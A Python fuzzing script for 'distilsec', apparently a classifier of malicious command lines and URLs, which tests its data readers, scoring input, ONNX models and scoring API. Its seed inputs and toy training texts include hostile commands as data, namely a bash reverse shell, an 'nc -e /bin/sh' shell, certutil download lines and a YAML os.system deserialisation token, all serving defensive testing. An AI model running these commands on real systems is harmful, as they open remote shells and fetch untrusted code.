"""Fuzzing every reader, the scoring input reader, the ONNX featurisation and the HTTP API: 0 crashes.

Usage:
    python benchmarks/fuzz.py [--examples 10000] [--targets NAME ...] [--seed 0] [--json out.json]

A seeded mutational fuzzer (reproducible with ``--seed``): each target has a few valid seed inputs,
and every generated input is either a seed mutated 1-8 times (byte flips, inserts, deletions, splices of
NUL bytes, invalid UTF-8, BOMs, CR/LF, quotes, brackets, huge repeats, deep nesting, truncation) or
random bytes. A *crash* is any exception other than distilsec's named errors (DataError /
DistilsecError, "a clear error is fine"), or for the API any 5xx status. Prints one line per target:
inputs run, clean results, clear errors, crashes (with the first crashing input saved to --crash-dir).
"""

from __future__ import annotations

import argparse
import io
import json
import lzma
import random
import sys
import tarfile
import tempfile
import time
import traceback
from collections.abc import Callable
from pathlib import Path
from typing import Any

sys.path.insert(0, str(Path(__file__).resolve().parents[1]))

from distilsec.errors import DistilsecError  # noqa: E402

TOKENS = [b"\x00", b"\xff\xfe", b"\xc3(", b"\xef\xbb\xbf", b"\r", b"\n", b"\r\n", b'"', b"'", b",", b"\t", b"{", b"}",
          b"[", b"]", b":", b"- ", b"  ", b"#{", b"{{", b"\\", b"\\u0000", b"\\ud800", b"&amp;", b"%", b"`", b"null",
          b"true", b"1e999", b"-", b"<", b">", b"<!ENTITY x 'y'>", b"*", b"&x;",
          b"!!python/object:os.system"]  # fmt: skip


def mutate(rng: random.Random, data: bytes) -> bytes:
    b = bytearray(data)
    for _ in range(rng.randint(1, 8)):
        op = rng.randrange(8)
        pos = rng.randint(0, len(b))
        if op == 0 and b:
            b[min(pos, len(b) - 1)] = rng.randrange(256)
        elif op == 1:
            b[pos:pos] = rng.choice(TOKENS)
        elif op == 2 and b:
            del b[pos : pos + rng.randint(1, 16)]
        elif op == 3:
            b[pos:pos] = rng.choice(TOKENS) * rng.randint(2, 3000)  # long runs, deep nesting
        elif op == 4:
            b = b[:pos]  # truncation
        elif op == 5 and b:
            j = rng.randint(0, len(b))
            b[pos:pos] = b[min(pos, j) : max(pos, j)][:512]  # duplicate a slice
        elif op == 6:
            b[pos:pos] = bytes(rng.randrange(256) for _ in range(rng.randint(1, 32)))
        else:
            b[pos:pos] = str(rng.choice([0, -1, 2**63, 1e308, "NaN"])).encode()
    return bytes(b)


def generate(rng: random.Random, seeds: list[bytes]) -> bytes:
    r = rng.random()
    if r < 0.1:
        return bytes(rng.randrange(256) for _ in range(rng.randint(0, 200)))
    if r < 0.15:
        return rng.choice(seeds)
    return mutate(rng, rng.choice(seeds))


# ---- targets: name -> (seeds, run(data, tmp) -> anything) -------------------------------------------------
def _readers_targets() -> dict[str, tuple[list[bytes], Callable[[bytes, Path], Any]]]:
    from distilsec.data import readers
    from distilsec.data.skips import SkipCounter

    def file_reader(rel: str, fn: Callable[[Path, SkipCounter], Any], root_of: Callable[[Path], Path] | None = None):
        def run(data: bytes, tmp: Path) -> Any:
            path = tmp / rel
            path.parent.mkdir(parents=True, exist_ok=True)
            path.write_bytes(data)
            out = fn(root_of(tmp) if root_of else path, SkipCounter())
            return list(out) if not isinstance(out, list | dict) and hasattr(out, "__iter__") else out

        return run

    lolbas = b"Name: Certutil.exe\nCommands:\n  - Command: certutil -urlcache -f {REMOTEURL} a.exe\n    Category: Download\n    MitreID: T1105\n    OperatingSystem: Windows\n"  # noqa: E501
    atomic = b"attack_technique: T1105\natomic_tests:\n  - name: dl\n    auto_generated_guid: 1\n    supported_platforms: [windows]\n    input_arguments:\n      url:\n        default: http://x/a\n    executor:\n      name: command_prompt\n      command: certutil -f #{url} a.exe\n"  # noqa: E501
    gtfo = b'---\nfunctions:\n  shell:\n    - code: bash -i\n  file-read:\n    - code: |\n        LFILE=file_to_read\n        cat "$LFILE"\n---\n'  # noqa: E501
    loobins = b"name: osascript\nexample_use_cases:\n  - name: x\n    code: osascript -e 'do shell script \"id\"'\n    tactics: [Execution]\n"  # noqa: E501
    jsonl = b'{"id": "1", "text": "ls -la", "label": "benign", "source": "tldr", "group": "ls", "platform": "linux"}\n'
    url_csv = b"url,label,source,host,reg_domain,reg_domain_private,has_scheme,date,target,source_id,label_conflict\nhttp://a.example/x,phishing,pt,a.example,a.example,a.example,1,2020-01-01,,1,0\n"  # noqa: E501
    phish = b"phish_id,url,phish_detail_url,submission_time,verified,verification_time,online,target\n1,http://a.example/x,http://pt/1,2020-01-01T00:00:00+00:00,yes,2020-01-01T00:00:00+00:00,yes,Other\n"  # noqa: E501
    table = b'text,label,group\nls -la,benign,ls\n"nc -e /bin/sh 1.2.3.4 9",malicious,nc\n'
    nvd = json.dumps(
        {
            "vulnerabilities": [
                {
                    "cve": {
                        "id": "CVE-2020-0001",
                        "published": "2020-01-01T00:00:00",
                        "descriptions": [{"lang": "en", "value": "SQL injection in x"}],
                        "weaknesses": [
                            {
                                "source": "nvd@nist.gov",
                                "type": "Primary",
                                "description": [{"lang": "en", "value": "CWE-89"}],
                            }
                        ],
                        "metrics": {
                            "cvssMetricV31": [
                                {
                                    "cvssData": {
                                        "vectorString": "CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:H/A:H",
                                        "baseScore": 9.8,
                                    }
                                }
                            ]
                        },
                    }
                }
            ]
        }
    ).encode()  # noqa: E501
    cve5 = json.dumps(
        {
            "dataType": "CVE_RECORD",
            "dataVersion": "5.1",
            "cveMetadata": {"cveId": "CVE-2020-0001", "datePublished": "2020-01-01T00:00:00"},
            "containers": {
                "cna": {
                    "descriptions": [{"lang": "en", "value": "XSS in y"}],
                    "problemTypes": [
                        {"descriptions": [{"cweId": "CWE-79", "lang": "en", "type": "CWE", "description": "CWE-79"}]}
                    ],
                }
            },
        }
    ).encode()  # noqa: E501
    cwe_xml = b'<?xml version="1.0"?><Weakness_Catalog xmlns="http://cwe.mitre.org/cwe-7" Name="CWE" Version="4.14"><Weaknesses><Weakness ID="79" Name="XSS" Abstraction="Base" Status="Stable"><Description>x</Description><Related_Weaknesses><Related_Weakness Nature="ChildOf" CWE_ID="74" View_ID="1000"/></Related_Weaknesses></Weakness></Weaknesses></Weakness_Catalog>'  # noqa: E501
    cwe_csv = b"CWE-ID,Name,Weakness Abstraction,Status,Description,Extended Description,Related Weaknesses\n79,XSS,Base,Stable,x,,::NATURE:ChildOf:CWE ID:74:VIEW ID:1000:ORDINAL:Primary::\n"  # noqa: E501
    tldr_md = b"# ls\n\n> List directory contents.\n\n- List files:\n\n`ls -la {{path/to/dir}}`\n"

    def tldr(data: bytes, tmp: Path) -> Any:
        buf = io.BytesIO()
        with tarfile.open(fileobj=buf, mode="w") as tar:
            info = tarfile.TarInfo("pages/common/ls.md")
            info.size = len(data)
            tar.addfile(info, io.BytesIO(data))
        (tmp / "tldr.tar.xz").write_bytes(lzma.compress(buf.getvalue(), preset=0))
        return list(readers.read_tldr(tmp / "tldr.tar.xz", skips=SkipCounter()))

    t: dict[str, tuple[list[bytes], Callable[[bytes, Path], Any]]] = {
        "reader:lolbas": ([lolbas], file_reader("L/yml/OSBinaries/X.yml", lambda p, s: readers.read_lolbas(p, skips=s), lambda t: t / "L")),  # noqa: E501
        "reader:atomic_red_team": ([atomic], file_reader("A/atomics/T1105/T1105.yaml", lambda p, s: readers.read_atomic_red_team(p, skips=s), lambda t: t / "A")),  # noqa: E501
        "reader:gtfobins": ([gtfo], file_reader("G/_gtfobins/bash", lambda p, s: readers.read_gtfobins(p, skips=s), lambda t: t / "G")),  # noqa: E501
        "reader:loobins": ([loobins], file_reader("O/LOOBins/x.yml", lambda p, s: readers.read_loobins(p, skips=s), lambda t: t / "O")),  # noqa: E501
        "reader:tldr": ([tldr_md], tldr),
        "reader:nl2bash": ([b"find . -name '*.py'\nls -la\n"], file_reader("N/data/bash/all.cm", lambda p, s: readers.read_nl2bash(p, skips=s), lambda t: t / "N")),  # noqa: E501
        "reader:slp": ([b"bash -i >& /dev/tcp/1.1.1.1/4444 0>&1\n"], file_reader("S/data/malicious.cm", lambda p, s: readers.read_slp(p, skips=s), lambda t: t / "S")),  # noqa: E501
        "reader:commands_jsonl": ([jsonl], file_reader("c.jsonl", lambda p, s: readers.read_commands_jsonl(p, skips=s))),  # noqa: E501
        "reader:url_csv": ([url_csv], file_reader("urls.csv", lambda p, s: readers.read_url_csv(p, skips=s))),
        "reader:url_list": ([b"example.org\n# comment\nwww.a.example/x\n"], file_reader("l.txt", lambda p, s: readers.read_url_list(p, "benign", "x", skips=s))),  # noqa: E501
        "reader:phishtank_csv": ([phish], file_reader("p.csv", lambda p, s: readers.read_phishtank_csv(p, skips=s))),
        "reader:iscx_csv": ([b"url\nhttp://a.example/x\n", b"a.example/x\nb.example\n"], file_reader("i.csv", lambda p, s: readers.read_iscx_csv(p, "benign", skips=s))),  # noqa: E501
        "reader:table_csv": ([table], file_reader("t.csv", lambda p, s: readers.read_table(p, skips=s))),
        "reader:table_jsonl": ([b'{"text": "ls", "label": "benign"}\n{"text": "nc -e sh", "label": "malicious"}\n'], file_reader("t.jsonl", lambda p, s: readers.read_table(p, skips=s))),  # noqa: E501
        "reader:table_tsv": ([table.replace(b",", b"\t")], file_reader("t.tsv", lambda p, s: readers.read_table(p, skips=s))),  # noqa: E501
    }  # fmt: skip
    try:
        from distilsec.data.readers.cve5 import read_cve5
        from distilsec.data.readers.cwe import read_cwe_csv, read_cwe_xml
        from distilsec.data.readers.nvd import read_nvd

        t["reader:nvd"] = ([nvd], file_reader("nvd.json", lambda p, s: read_nvd(p, skips=s)))
        t["reader:cve5"] = ([cve5], file_reader("CVE-2020-0001.json", lambda p, s: read_cve5(p, skips=s)))
        t["reader:cwe_xml"] = ([cwe_xml], file_reader("cwec.xml", lambda p, s: read_cwe_xml(p)))
        t["reader:cwe_csv"] = ([cwe_csv], file_reader("1000.csv", lambda p, s: read_cwe_csv(p)))
    except ImportError:  # the CVE readers belong to another part of the project
        pass
    return t


def _scoring_targets(bundles: dict[str, Path]) -> dict[str, tuple[list[bytes], Callable[[bytes, Path], Any]]]:
    from distilsec.serving.runtime.onnx_model import OnnxModel
    from distilsec.serving.scoring import ScoreStats, iter_records

    def records(fmt: str) -> Callable[[bytes, Path], Any]:
        def run(data: bytes, tmp: Path) -> Any:
            stats = ScoreStats()
            out = list(iter_records(io.BytesIO(data), fmt, stats))
            assert len(out) == stats.n_rows, "one record per counted row"
            return out

        return run

    line_seeds = [b"ls -la\ncertutil -urlcache -f http://x/a a\n", b"http://a.example/x?y=1\n"]
    json_seeds = [b'{"text": "ls", "id": 1}\n{"url": "a.example", "id": "b"}\n']
    csv_seeds = [b'id,text\n1,"ls -la, more"\n2,"nc -e sh"\n', b'cmdline,x\n"multi\nline",1\n']
    t = {
        "score-input:lines": (line_seeds, records("lines")),
        "score-input:jsonl": (json_seeds, records("jsonl")),
        "score-input:csv": (csv_seeds, records("csv")),
        "score-input:tsv": ([s.replace(b",", b"\t") for s in csv_seeds], records("tsv")),
    }
    for kind, bundle in bundles.items():
        model = OnnxModel(bundle)

        def featurise(data: bytes, tmp: Path, model: OnnxModel = model) -> Any:
            texts = data.decode("utf-8", "surrogateescape").split("\n")
            proba = model.predict_proba(texts)
            assert proba.shape == (len(texts), len(model.classes_)) and (abs(proba.sum(axis=1) - 1) < 1e-4).all()
            return proba

        t[f"onnx-model:{kind}"] = (line_seeds + json_seeds, featurise)
    return t


#: HTTP status -> count, for the API target (a 4xx is a clear error, reported apart from 200s)
STATUS_COUNTS: dict[int, int] = {}


def _api_target(bundles: dict[str, Path]) -> tuple[Any, dict[str, tuple[list[bytes], Callable[[bytes, Path], Any]]]]:
    from fastapi.testclient import TestClient

    from distilsec.serving.api import ServeSettings, create_app

    client = TestClient(
        create_app(ServeSettings(models={k: str(v) for k, v in bundles.items()}, max_request_bytes=65536))
    )
    client.__enter__()
    seeds = [b'{"text": "certutil -urlcache -f http://x/a a"}', b'{"texts": ["ls", "a.example/x"], "proba": true}',
             b'{"texts": [], "model": "char_cnn"}', b'{"text": "x", "model": "hashed_linear"}']  # fmt: skip

    def post(data: bytes, tmp: Path) -> Any:
        r = client.post("/v1/score", content=data, headers={"content-type": "application/json"})
        STATUS_COUNTS[r.status_code] = STATUS_COUNTS.get(r.status_code, 0) + 1
        assert r.status_code < 500, f"HTTP {r.status_code}: {r.text[:200]}"
        assert "detail" in r.json() or r.status_code == 200
        return r.status_code

    return client, {"api:/v1/score": (seeds, post)}


def tiny_bundles(root: Path) -> dict[str, Path]:
    from distilsec.bundle import update_manifest
    from distilsec.serving.export import export_onnx
    from distilsec.students import CharCNNStudent, HashedLinearStudent

    texts = ["ls -la", "git status", "nc -e /bin/sh 1.2.3.4 9", "certutil -urlcache -f http://x/a a"] * 10
    y = ["benign", "benign", "malicious", "malicious"] * 10
    out = {}
    for kind, st in (
        ("char_cnn", CharCNNStudent(max_len=64, embedding_dim=8, n_filters=8, hidden_dims=[8], epochs=1, device="cpu")),
        ("hashed_linear", HashedLinearStudent(n_features=2**12, epochs=1)),
    ):
        b = st.fit(texts, y).save(root / kind)
        update_manifest(b, threshold=0.5, preprocess="cmdline")
        export_onnx(b, validation_texts=texts)
        out[kind] = b
    return out


def main() -> None:
    ap = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    ap.add_argument("--examples", type=int, default=10000)
    ap.add_argument("--targets", nargs="*", default=None, help="prefixes, e.g. reader: api:")
    ap.add_argument("--seed", type=int, default=0)
    ap.add_argument("--crash-dir", type=Path, default=Path("benchmarks/results/fuzz-crashes"))
    ap.add_argument("--json", type=Path, default=None)
    args = ap.parse_args()
    import logging

    logging.disable(logging.WARNING)  # readers log every skip; millions of lines help no one here
    tmp_root = Path(tempfile.mkdtemp(prefix="distilsec-fuzz-"))
    bundles = tiny_bundles(tmp_root / "bundles")
    targets = {**_readers_targets(), **_scoring_targets(bundles)}
    client, api = _api_target(bundles)
    targets.update(api)
    if args.targets:
        targets = {k: v for k, v in targets.items() if any(k.startswith(p) for p in args.targets)}
    results = []
    print("| target | inputs | clean | clear errors | crashes | seconds |\n|---|---|---|---|---|---|")
    for name, (seeds, run) in targets.items():
        rng = random.Random(f"{args.seed}:{name}")
        clean = clear = 0
        crashes: list[str] = []
        start = time.perf_counter()
        for i in range(args.examples):
            data = generate(rng, seeds)
            work = tmp_root / "work" / str(i % 4)
            work.mkdir(parents=True, exist_ok=True)
            try:
                run(data, work)
                clean += 1
            except DistilsecError:
                clear += 1
            except Exception:  # anything else is a crash: keep the input to reproduce it
                if not crashes:
                    args.crash_dir.mkdir(parents=True, exist_ok=True)
                    safe = name.replace(":", "_").replace("/", "_")
                    (args.crash_dir / f"{safe}.bin").write_bytes(data)
                    (args.crash_dir / f"{safe}.txt").write_text(traceback.format_exc())
                crashes.append(traceback.format_exc().strip().splitlines()[-1])
        secs = time.perf_counter() - start
        results.append({"target": name, "inputs": args.examples, "clean": clean, "clear_errors": clear,
                        "crashes": len(crashes), "first_crash": crashes[0] if crashes else None,
                        "seconds": round(secs, 1)})  # fmt: skip
        print(f"| {name} | {args.examples} | {clean} | {clear} | {len(crashes)} | {secs:.1f} |", flush=True)
        if crashes:
            print(f"    first crash: {crashes[0][:300]}", flush=True)
    client.__exit__(None, None, None)
    if STATUS_COUNTS:
        print(f"API status counts: {dict(sorted(STATUS_COUNTS.items()))}")
        for r in results:
            if r["target"].startswith("api:"):
                r["status_counts"] = STATUS_COUNTS
    if args.json:
        args.json.write_text(json.dumps(results, indent=2))
    sys.exit(1 if any(r["crashes"] for r in results) else 0)


if __name__ == "__main__":
    main()
